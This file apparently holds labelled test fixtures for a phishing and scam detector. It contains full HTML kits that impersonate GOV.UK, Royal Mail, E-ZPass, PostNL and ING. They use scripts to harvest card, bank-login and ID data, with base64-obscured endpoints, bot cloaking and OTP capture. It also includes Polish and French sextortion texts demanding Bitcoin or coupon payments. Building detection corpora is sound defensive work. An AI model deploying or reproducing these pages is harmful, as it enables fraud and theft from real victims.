import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { assets, site } from '../parts/zg-kit.js';

const govukCss = `body{margin:0;font-family:Arial,sans-serif;color:#0b0c0c}.gh{background:#0b0c0c;color:#fff;padding:10px 30px;font-weight:700;font-size:24px;border-bottom:10px solid #1d70b8}.w{max-width:960px;margin:0 auto;padding:30px}.b{background:#00703c;color:#fff;border:0;padding:10px 16px;font-size:19px;box-shadow:0 2px 0 #002d18}input{display:block;font-size:19px;padding:5px;border:2px solid #0b0c0c;margin:5px 0 20px;width:320px}label{font-weight:700;font-size:19px}.ph{border-left:10px solid #b1b4b6;padding:10px 15px;margin:20px 0}footer{border-top:1px solid #b1b4b6;background:#f3f2f1;padding:30px;font-size:14px}`;

export const entries: Entry[] = [
  {
  id: 'zg-phish-govuk-cost-of-living-bank-details',
  label: 'phishing',
  kind: 'gov-benefit',
  url: 'https://costofliving-payment-claim.uk/apply/eligibility',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Claim your Cost of Living Payment - GOV.UK</title><style>${govukCss}</style></head><body>
<div class="gh">&#9819; GOV.UK</div><div class="w"><span style="color:#505a5f">Cost of Living Support</span>
<h1>Claim your £650 Cost of Living Payment</h1>
<div class="ph">Our records show that you are eligible for the winter cost of living payment but your bank details could not be verified. You must confirm your details by <b>midnight tonight</b> or the payment will be cancelled.</div>
<form method="post" action="/apply/submit" id="f">
<label>Full name</label><input name="name"><label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY"><label>National Insurance number</label><input name="nino" placeholder="QQ 12 34 56 C">
<label>Postcode</label><input name="postcode"><label>Mobile number</label><input name="mob">
<label>Bank sort code</label><input name="sc"><label>Account number</label><input name="acc">
<label>Debit card number (for identity check)</label><input name="card"><label>Expiry</label><input name="exp"><label>CVV</label><input name="cvv">
<button class="b">Continue</button></form></div>
<footer>All content is available under the Open Government Licence v3.0 &middot; &copy; Crown copyright</footer>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));fetch('/apply/api.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).finally(function(){location.href='/apply/complete'})}</script></body></html>`,
  routes: { 'costofliving-payment-claim.uk/apply/api.php': jsonRoute({ status: 'ok' }), 'costofliving-payment-claim.uk/apply/complete': htmlRoute(`<!doctype html><title>Application complete - GOV.UK</title><h1>Application complete</h1><p>Your payment will arrive within 3 working days.</p>`) },
},
  {
  id: 'zg-phish-parcel-redelivery-fee-uk',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://royalmail.redelivery-arrange.co.uk/track/RN482119305GB',
  body: `<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Royal Mail - Arrange a redelivery</title>
<style>body{margin:0;font-family:Arial,sans-serif}.h{background:#da202a;color:#fde407;padding:16px 24px;font-weight:700;font-size:20px}.c{max-width:520px;margin:0 auto;padding:24px}input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #888}button{background:#da202a;color:#fff;border:0;padding:12px 22px;width:100%;font-size:16px}.s{display:none}</style></head><body>
<div class="h">Royal Mail</div><div class="c">
<div id="a"><h2>We missed you</h2><p>Item <b>RN482119305GB</b> could not be delivered because the postage was underpaid. A fee of <b>£1.45</b> must be paid to rebook delivery.</p>
<label>Full name</label><input id="n"><label>Address line 1</label><input id="ad"><label>Postcode</label><input id="pc"><label>Phone</label><input id="ph"><button onclick="nx()">Continue</button></div>
<div id="b" class="s"><h2>Pay £1.45</h2><label>Card number</label><input id="cc" inputmode="numeric"><label>Expiry (MM/YY)</label><input id="ex"><label>CVV</label><input id="cv"><button onclick="pay()">Pay £1.45</button></div>
<div id="c" class="s"><h2>Verifying payment...</h2><p>Your bank may contact you to confirm this payment. Please approve it in your banking app.</p></div></div>
<script>
var tg=atob('aHR0cHM6Ly9yb3lhbG1haWwucmVkZWxpdmVyeS1hcnJhbmdlLmNvLnVrL2FwaS9zdWJtaXQ=');
function v(i){return document.getElementById(i).value}
function nx(){fetch(tg,{method:'POST',body:JSON.stringify({s:1,n:v('n'),a:v('ad'),p:v('pc'),t:v('ph')})});a.style.display='none';b.style.display='block'}
function pay(){fetch(tg,{method:'POST',body:JSON.stringify({s:2,c:v('cc'),e:v('ex'),v:v('cv')})});b.style.display='none';c.style.display='block'}
</script></body></html>`,
  routes: { 'royalmail.redelivery-arrange.co.uk/api/submit': jsonRoute({ ok: 1 }) },
},
  {
  id: 'zg-phish-toll-unpaid-ezpass-us',
  label: 'phishing',
  kind: 'toll-fee',
  url: 'https://ezpassny.toll-pay-services.com/pay/invoice?id=9921874',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>E-ZPass New York - Pay Outstanding Toll</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#f4f6f8}.h{background:#5b2c83;color:#fff;padding:16px 24px;font-size:20px;font-weight:700}.c{max-width:540px;margin:20px auto;background:#fff;padding:24px;border-radius:6px}input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #aaa;border-radius:4px}button{background:#5b2c83;color:#fff;border:0;padding:12px;width:100%;border-radius:4px;font-size:16px}table{width:100%}td{padding:6px 0}</style></head><body>
<div class="h">E-ZPass New York</div><div class="c"><h2>Outstanding toll balance</h2>
<table><tr><td>Invoice</td><td>9921874</td></tr><tr><td>Toll</td><td>$4.15</td></tr><tr><td>Late fee (if not paid today)</td><td style="color:#c00">$50.00</td></tr></table>
<p>Pay your toll amount of <b>$4.15</b> now to avoid a late fee and suspension of your vehicle registration.</p>
<form id="f"><label>Full name</label><input name="name"><label>Billing address</label><input name="addr"><label>ZIP</label><input name="zip"><label>Card number</label><input name="card"><label>Exp</label><input name="exp"><label>CVV</label><input name="cvv"><button>Pay $4.15</button></form></div>
<script src="/assets/pay.min.js"></script></body></html>`,
  routes: {
    'ezpassny.toll-pay-services.com/assets/pay.min.js': jsRoute(`!function(){var f=document.getElementById("f");if(/bot|headless|lighthouse/i.test(navigator.userAgent)){location.replace("/maintenance.html");return}f.addEventListener("submit",function(e){e.preventDefault();var d={};new FormData(f).forEach(function(v,k){d[k]=v});d.ua=navigator.userAgent;fetch("/api/c.php",{method:"POST",body:JSON.stringify(d)}).then(function(){f.innerHTML="<p>Processing... please enter the one-time code sent by your bank.</p><input name=otp><button>Verify</button>"})})}();`),
    'ezpassny.toll-pay-services.com/api/c.php': jsonRoute({ r: 1 }),
    'ezpassny.toll-pay-services.com/maintenance.html': htmlRoute('<!doctype html><title>Maintenance</title><p>Site under maintenance.</p>'),
  },
},
  {
  id: 'zg-phish-postnl-douane-ideal-nl',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://postnl.pakket-inklaring.nl/betalen/3SPNL48102291',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>PostNL | Douanekosten betalen</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#f0f3f7}.h{background:#fff;border-bottom:4px solid #ed7000;padding:14px 24px;color:#ed7000;font-weight:800;font-size:22px}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}.bank{display:block;width:100%;text-align:left;padding:12px;margin:6px 0;border:1px solid #ccc;background:#fff;border-radius:6px;font-size:15px}</style></head><body>
<div class="h">PostNL</div><div class="c"><h2>Er staan nog kosten open voor uw pakket</h2>
<p>Zending <b>3SPNL48102291</b> wordt vastgehouden door de douane. Betaal <b>€ 2,99</b> invoerkosten om de bezorging morgen in te plannen.</p>
<p>Kies uw bank (iDEAL):</p>
<button class="bank" onclick="go('ing')">ING</button><button class="bank" onclick="go('rabo')">Rabobank</button><button class="bank" onclick="go('abn')">ABN AMRO</button><button class="bank" onclick="go('sns')">SNS</button><button class="bank" onclick="go('bunq')">bunq</button>
<p style="font-size:12px;color:#666">Na 48 uur wordt het pakket teruggestuurd naar de afzender.</p></div>
<script>function go(b){location.href='/ideal/'+b+'/login?amt=2.99&ref=3SPNL48102291'}</script></body></html>`,
  routes: {
    'postnl.pakket-inklaring.nl/ideal/ing/login': htmlRoute(`<!doctype html><html lang="nl"><head><title>Inloggen Mijn ING</title><style>body{font-family:Arial;background:#f7f7f7}.b{max-width:380px;margin:40px auto;background:#fff;padding:26px;border-top:5px solid #ff6200}input{width:100%;padding:10px;margin:6px 0 14px}button{background:#ff6200;color:#fff;border:0;padding:12px;width:100%}</style></head><body><div class="b"><h2>Inloggen Mijn ING</h2><p>iDEAL betaling € 2,99</p><form method="post" action="/ideal/ing/post"><label>Gebruikersnaam</label><input name="u"><label>Wachtwoord</label><input type="password" name="p"><label>Rekeningnummer (IBAN)</label><input name="iban"><label>Pasnummer</label><input name="pas"><button>Inloggen</button></form></div></body></html>`),
  },
},
  {
  id: 'zg-scam-hacked-account-extortion-pl',
  label: 'scam',
  kind: 'sextortion',
  url: 'https://powiadomienie-konto.net/id/4471/',
  body: `<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"><title>Twoje konto zostało przejęte</title><style>body{font-family:Arial;background:#fafafa;max-width:720px;margin:30px auto;padding:20px;border:1px solid #ddd;background:#fff}.a{background:#fee;border:1px solid #f99;padding:12px}</style></head><body>
<h2>Witaj,</h2><p>Mam dostęp do Twojego konta e-mail i do Twojego telefonu. Twoje hasło zostało wykradzione z wycieku danych. Jako dowód: wysłałem Ci tę wiadomość z Twojego własnego adresu.</p>
<p>Przez ostatnie miesiące zbierałem Twoje zdjęcia, rozmowy z komunikatorów i historię przeglądania. Mam też nagranie z kamery, które na pewno nie spodoba się Twojej rodzinie.</p>
<div class="a">Aby to zakończyć, przelej równowartość <b>2 500 zł w Bitcoin</b> na adres:<br><code>bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6axemvljvt2k76zs50tv4q</code><br>Masz <b>72 godziny</b>.</div>
<p>Po otrzymaniu płatności usunę wszystkie dane i zniknę. Jeśli zgłosisz to na policję lub zmienisz hasło, natychmiast opublikuję wszystko.</p>
<p style="font-size:12px;color:#888">Nie wiesz, jak kupić Bitcoin? Użyj kantoru kryptowalut lub bitomatu.</p></body></html>`,
},
  {
  id: 'zg-scam-sextortion-video-fr',
  label: 'scam',
  kind: 'sextortion',
  url: 'https://avis-gendarmerie-cyber.fr-convocation.com/dossier/PJ-77-3381',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>CONVOCATION – Brigade de protection des mineurs</title><style>body{font-family:Times New Roman,serif;max-width:760px;margin:30px auto;padding:30px;border:1px solid #999;background:#fff}.e{text-align:center;font-weight:bold}</style></head><body>
<p class="e">RÉPUBLIQUE FRANÇAISE<br>Ministère de l'Intérieur<br>Direction Centrale de la Police Judiciaire &ndash; Cybercriminalité</p>
<h2 style="text-align:center">CONVOCATION N° PJ-77-3381</h2>
<p>Madame, Monsieur,</p><p>À la suite d'une saisie informatique, vous faites l'objet de plusieurs procédures judiciaires pour <b>pédopornographie, exhibitionnisme et cyberpornographie</b>. Vos consultations de sites illicites ont été enregistrées par notre cellule.</p>
<p>Vous avez <b>72 heures</b> pour nous faire parvenir vos justifications et régler l'amende transactionnelle de <b>3 850 €</b> afin d'éviter la transmission du dossier au procureur et l'inscription au fichier des délinquants sexuels.</p>
<p>Le règlement s'effectue par coupons <b>PCS ou Transcash</b> à transmettre par e-mail à l'adresse : commissaire.divisionnaire@brigade-cyber-fr.com</p>
<p>Commissaire Divisionnaire<br>Chef de l'Office Mineurs (OFMIN)</p></body></html>`,
},
];
